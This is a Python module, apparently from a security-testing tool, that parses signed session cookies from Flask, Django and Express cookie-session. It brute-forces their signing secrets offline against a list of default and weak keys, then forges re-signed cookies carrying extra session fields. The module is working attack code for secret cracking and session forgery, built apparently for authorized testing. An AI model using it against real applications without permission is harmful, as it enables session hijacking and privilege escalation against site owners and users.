"""Framework-signed session cookies: read, crack the signing key offline, and re-sign (pure).

A framework that keeps the session in the cookie itself signs it with the app's secret key; whoever
knows the key writes any session they like. Three formats are read, with the standard library
only (no framework is a dependency of assay):

- **Flask** (itsdangerous ``URLSafeTimedSerializer``, salt ``cookie-session``): ``payload.time.sig``,
  the payload base64url JSON, zlib-compressed behind a leading ``.`` when that is shorter; the key
  derived as HMAC-SHA1(secret, salt), the signature HMAC-SHA1(derived, ``payload.time``).
- **Django** signed-cookie sessions (``django.core.signing``, salt
  ``django.contrib.sessions.backends.signed_cookies``): ``payload:time:sig``, the time base62, the
  signature HMAC-SHA256 keyed with SHA256(salt + ``signer`` + secret).
- **Express cookie-session** (keygrip): a cookie ``name`` holding base64 JSON and ``name.sig``,
  HMAC-SHA1 of ``name=value``, base64url without padding.

A key is found by recomputing the cookie's signature with each candidate; nothing is sent.
"""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
import time
import zlib
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from typing import Literal

from assay.agents.analysis.security.attacks.jwt import wordlist

Framework = Literal["flask", "django", "cookie-session"]
FLASK_SALT = b"cookie-session"
DJANGO_SALT = b"django.contrib.sessions.backends.signed_cookies"
_B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
# Keys left at a framework's documented example or default, tried before the JWT wordlist: the
# Flask tutorial's "dev" and the docs' example bytes, express-session's "keyboard cat", the
# placeholders of project templates and tutorials.
DEFAULT_SECRETS: tuple[bytes, ...] = (
    b"dev",
    b"development",
    b"secret",
    b"changeme",
    b"change-me",
    b"CHANGE_ME",
    b"changethis",
    b"secret-key",
    b"secret_key",
    b"SECRET_KEY",
    b"secretkey",
    b"super-secret",
    b"super secret key",
    b"supersecretkey",
    b"your-secret-key",
    b"your_secret_key",
    b"my-secret-key",
    b"mysecretkey",
    b"keyboard cat",
    b"flask-secret",
    b"default",
    b"test",
    b'_5#y2L"F4Q8z\n\xec]/',
    b"192b9bdd22ab9ed4d12e236c78afcb9a393ec15f71bbf5dc987d54727823bcbf",
)


@dataclass(frozen=True)
class SignedCookie:
    """One session cookie a framework signed: its parts as issued."""

    framework: Framework
    name: str
    payload: str  # as in the cookie (base64url, ``.`` first when compressed)
    timestamp: str  # '' for cookie-session
    signature: str
    sig_name: str = ""  # cookie-session: the cookie that holds the signature

    @property
    def signed_part(self) -> str:
        if self.framework == "flask":
            return f"{self.payload}.{self.timestamp}"
        if self.framework == "django":
            return f"{self.payload}:{self.timestamp}"
        return f"{self.name}={self.payload}"


def _b64decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _b64encode(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def decoded_payload(cookie: SignedCookie) -> bytes | None:
    """The JSON the payload carries, or None when it is none."""
    try:
        if cookie.framework == "cookie-session":
            raw = base64.b64decode(cookie.payload + "=" * (-len(cookie.payload) % 4))
        elif cookie.payload.startswith("."):
            raw = zlib.decompress(_b64decode(cookie.payload[1:]))
        else:
            raw = _b64decode(cookie.payload)
        json.loads(raw)
    except (binascii.Error, ValueError, zlib.error):
        return None
    return raw


def read_cookies(jar: Mapping[str, str]) -> list[SignedCookie]:
    """The cookies of ``jar`` written in one of the three formats (a JSON payload that decodes)."""
    found: list[SignedCookie] = []
    for name, value in jar.items():
        value = value.strip('"')
        candidate: SignedCookie | None = None
        if name + ".sig" in jar:
            candidate = SignedCookie("cookie-session", name, value, "", jar[name + ".sig"], name + ".sig")
        elif value.count(":") == 2:
            payload, stamp, sig = value.split(":")
            candidate = SignedCookie("django", name, payload, stamp, sig)
        elif value.count(".") in (2, 3):
            compressed = value.startswith(".")
            payload, stamp, sig = value[1:].split(".") if compressed else value.split(".")
            candidate = SignedCookie("flask", name, ("." if compressed else "") + payload, stamp, sig)
        if candidate is not None and decoded_payload(candidate) is not None:
            found.append(candidate)
    return found


def signature(cookie: SignedCookie, key: bytes, signed_part: str | None = None) -> str:
    """The signature ``cookie`` (or ``signed_part`` in its format) gets under ``key``."""
    message = (signed_part if signed_part is not None else cookie.signed_part).encode()
    if cookie.framework == "flask":
        derived = hmac.new(key, FLASK_SALT, hashlib.sha1).digest()
        return _b64encode(hmac.new(derived, message, hashlib.sha1).digest())
    if cookie.framework == "django":
        derived = hashlib.sha256(DJANGO_SALT + b"signer" + key).digest()
        return _b64encode(hmac.new(derived, message, hashlib.sha256).digest())
    return _b64encode(hmac.new(key, message, hashlib.sha1).digest())


def candidates() -> tuple[bytes, ...]:
    """The framework defaults first, then the published weak-secret wordlist (JWT's)."""
    return tuple(dict.fromkeys((*DEFAULT_SECRETS, *wordlist())))


def crack(cookie: SignedCookie, keys: Iterable[bytes] | None = None) -> bytes | None:
    """The key among ``keys`` (default :func:`candidates`) that reproduces the cookie's signature."""
    wanted = cookie.signature.encode()
    for key in candidates() if keys is None else keys:
        if hmac.compare_digest(signature(cookie, key).encode(), wanted):
            return key
    return None


def _b62(number: int) -> str:
    encoded = ""
    while number > 0:
        number, rest = divmod(number, 62)
        encoded = _B62[rest] + encoded
    return encoded or "0"


def forged(
    cookie: SignedCookie, key: bytes, extra: Mapping[str, str], now: float | None = None
) -> dict[str, str]:
    """The cookies to send: the session with ``extra`` keys added to its JSON object, freshly
    timestamped and signed with ``key``. Empty when the payload is no JSON object."""
    raw = decoded_payload(cookie)
    data = json.loads(raw) if raw is not None else None
    if not isinstance(data, dict):
        return {}
    data.update(extra)
    text = json.dumps(data, separators=(",", ":")).encode()
    moment = int(time.time() if now is None else now)
    if cookie.framework == "cookie-session":
        payload = base64.b64encode(text).decode()
        return {cookie.name: payload, cookie.sig_name: signature(cookie, key, f"{cookie.name}={payload}")}
    compressed = zlib.compress(text)
    payload = "." + _b64encode(compressed) if len(compressed) < len(text) - 1 else _b64encode(text)
    if cookie.framework == "flask":
        stamp = _b64encode(moment.to_bytes((moment.bit_length() + 7) // 8, "big"))
        part = f"{payload}.{stamp}"
        return {cookie.name: f"{part}.{signature(cookie, key, part)}"}
    part = f"{payload}:{_b62(moment)}"
    return {cookie.name: f"{part}:{signature(cookie, key, part)}"}


def tampered(cookie: SignedCookie) -> dict[str, str]:
    """The same cookie with a signature no key made (its last character changed): the control that
    shows the app checks signatures at all."""
    sig = cookie.signature
    bad = sig[:-1] + ("A" if sig[-1:] != "A" else "B")
    if cookie.framework == "cookie-session":
        return {cookie.name: cookie.payload, cookie.sig_name: bad}
    sep = "." if cookie.framework == "flask" else ":"
    return {cookie.name: f"{cookie.signed_part}{sep}{bad}"}
